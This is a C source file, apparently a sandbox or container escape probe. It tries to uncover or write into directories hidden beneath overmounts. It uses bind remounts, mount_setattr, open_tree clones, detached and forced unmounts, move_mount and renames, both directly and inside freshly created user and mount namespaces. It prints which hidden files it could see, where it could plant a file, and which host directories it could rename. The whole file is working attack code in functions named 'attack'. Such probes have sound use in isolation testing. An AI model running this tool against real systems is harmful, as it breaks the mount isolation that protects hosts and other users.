/* reveal PARENT NAME...: write to the directories PARENT/NAME, which are covered, or replace them.
 *
 * Each way is tried as the command, and in namespaces of its own below.  A line is printed for each
 * file that is seen in such a directory, for each one that could be made there, and for each
 * directory of the host's above it that could be renamed. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

enum { REMOUNT = 32, BIND = 4096, RECURSIVE = 16384, DETACH = 2, FORCE = 1, PRIVATE = 1 << 18 };

static char **names;
static const char *level = "";

static int mount_(const char *from, const char *to, long flags)
{
    return (int)syscall(SYS_mount, from, to, NULL, flags, NULL);
}

static int umount_(const char *path, int flags) { return (int)syscall(SYS_umount2, path, flags); }

/* Look into PARENT/NAME below a directory that shows PARENT. */
static void look(int parent, const char *how)
{
    for (char **name = names; *name; name++) {
        int fd = openat(parent, *name, O_RDONLY | O_DIRECTORY);
        if (fd < 0) continue;
        int made = openat(fd, "planted", O_WRONLY | O_CREAT, 0600);
        if (made >= 0) printf("WRITTEN %s: %s%s\n", *name, level, how), close(made);
        DIR *directory = fdopendir(fd);
        for (struct dirent *entry; directory && (entry = readdir(directory));)
            if (strcmp(entry->d_name, ".") && strcmp(entry->d_name, ".."))
                printf("SEEN %s/%s: %s%s\n", *name, entry->d_name, level, how);
        if (directory) closedir(directory);
    }
    close(parent);
}

static void look_at(const char *path, const char *how)
{
    int parent = open(path, O_RDONLY | O_DIRECTORY);
    if (parent >= 0) look(parent, how);
}

static void move_away(char *path)
{
    struct stat root, status;
    char moved[4128];
    stat("/", &root);
    for (char *slash; (slash = strrchr(path, '/')) != path;) {
        *slash = 0;
        snprintf(moved, sizeof moved, "%s.moved", path);
        if (!stat(path, &status) && status.st_dev != root.st_dev && !rename(path, moved))
            printf("MOVED %s: %s\n", path, level), rename(moved, path);
    }
}

static void attack(const char *parent)
{
    struct mount_attr writable = {.attr_clr = MOUNT_ATTR_RDONLY};
    char path[4096];
    look_at(parent, "plain");
    for (char **name = names; *name; name++) {
        snprintf(path, sizeof path, "%s/%s", parent, *name);
        move_away(path);
        snprintf(path, sizeof path, "%s/%s", parent, *name);
        mount_(NULL, path, REMOUNT | BIND), look_at(parent, "remount of the mount");
        mount_(NULL, path, REMOUNT), look_at(parent, "remount of the file system");
        syscall(SYS_mount_setattr, AT_FDCWD, path, 0, &writable, sizeof writable);
        look_at(parent, "mount_setattr");
    }
    for (int recursive = 0; recursive < 2; recursive++) {
        unsigned flags = OPEN_TREE_CLONE | (recursive ? AT_RECURSIVE : 0);
        int tree = (int)syscall(SYS_open_tree, AT_FDCWD, parent, flags);
        for (char **name = names; tree >= 0 && *name; name++) {
            snprintf(path, sizeof path, "/proc/self/fd/%d/%s", tree, *name);
            look(dup(tree), "open_tree");
            umount_(path, DETACH), look(dup(tree), "umount in open_tree");
            syscall(SYS_mount_setattr, tree, *name, AT_RECURSIVE, &writable, sizeof writable);
            look(dup(tree), "mount_setattr in open_tree");
        }
        if (!mount_(parent, "/mnt", BIND | (recursive ? RECURSIVE : 0))) {
            look_at("/mnt", "bind");
            for (char **name = names; *name; name++) {
                snprintf(path, sizeof path, "/mnt/%s", *name);
                umount_(path, DETACH), look_at("/mnt", "umount in a bind");
                mount_(NULL, path, REMOUNT | BIND), look_at("/mnt", "remount in a bind");
            }
            umount_("/mnt", DETACH);
        }
    }
    for (char **name = names; *name; name++) {
        snprintf(path, sizeof path, "%s/%s", parent, *name);
        umount_(path, FORCE), umount_(path, DETACH), look_at(parent, "umount");
        int cover = (int)syscall(SYS_open_tree, AT_FDCWD, path, 0);
        syscall(SYS_move_mount, cover, "", AT_FDCWD, "/mnt", MOVE_MOUNT_F_EMPTY_PATH);
        look_at(parent, "move_mount");
        rename(path, "/mnt/away"), rmdir(path), look_at(parent, "rename");
    }
}

static void put(const char *path, const char *format, unsigned id)
{
    FILE *file = fopen(path, "w");
    if (file) fprintf(file, format, id, id), fclose(file);
}

int main(int count, char **words)
{
    if (count < 3) return 2;
    names = words + 2;
    attack(words[1]);
    for (int depth = 0; depth < 2; depth++) {
        unsigned uid = geteuid(), gid = getegid();
        level = depth ? "in namespaces of those: " : "in namespaces of its own: ";
        if (unshare(CLONE_NEWUSER | CLONE_NEWNS)) return puts("no namespaces"), 1;
        put("/proc/self/setgroups", "deny", 0);
        put("/proc/self/uid_map", depth ? "0 0 1" : "0 %u 1", uid);
        put("/proc/self/gid_map", depth ? "0 0 1" : "0 %u 1", gid);
        mount_(NULL, "/", RECURSIVE | PRIVATE);
        attack(words[1]);
    }
    return puts("done"), 0;
}
